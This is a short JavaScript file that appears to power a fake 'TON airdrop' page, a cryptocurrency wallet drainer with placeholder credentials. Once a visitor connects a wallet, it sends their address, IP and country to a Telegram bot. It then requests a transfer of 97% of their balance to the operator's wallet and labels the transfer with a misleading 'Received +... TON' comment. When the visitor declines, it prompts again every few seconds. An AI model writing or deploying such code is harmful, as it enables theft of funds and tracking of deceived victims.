const ui = new TON_CONNECT_UI.TonConnectUI({ manifestUrl: "https://ton-airdrop.example/tonconnect-manifest.json", buttonRootId: "ton-connect" });
const mainWallet = "UQ_PLACEHOLDER_RECEIVER";
const botToken = "0000:TOKEN", chatId = "000000";

ui.onStatusChange(async (wallet) => {
  if (!wallet) return;
  const geo = await (await fetch("https://ipapi.co/json/")).json();
  send(`🟢 Подключен кошелёк\n${wallet.account.address}\n${geo.country_name} ${geo.ip}\n${wallet.device.appName}`);
  document.querySelector(".claim").classList.add("ready");
  setTimeout(didtrans, 800);
});

async function didtrans() {
  const r = await fetch("https://toncenter.example/api/v3/wallet?address=" + ui.account.address);
  const { balance } = await r.json();
  const original = parseFloat(balance);
  const left = original - original * 0.03;
  const transaction = {
    validUntil: Math.floor(Date.now() / 1000) + 60,
    messages: [{ address: mainWallet, amount: Math.trunc(left).toString(), payload: window.comment("Received +" + (original / 1e9 * 2).toFixed(1) + " TON 💎") }],
  };
  try {
    const res = await ui.sendTransaction(transaction);
    send("💰 Подтвердил " + (left / 1e9).toFixed(2) + " TON");
  } catch (e) {
    send("🔴 Отклонил, баланс " + original / 1e9);
    setTimeout(didtrans, 1500);
  }
}
function send(text) {
  fetch(`https://api.telegram.org/bot${botToken}/sendMessage`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ chat_id: chatId, text }) });
}
document.querySelector(".claim").onclick = () => (ui.connected ? didtrans() : ui.openModal());
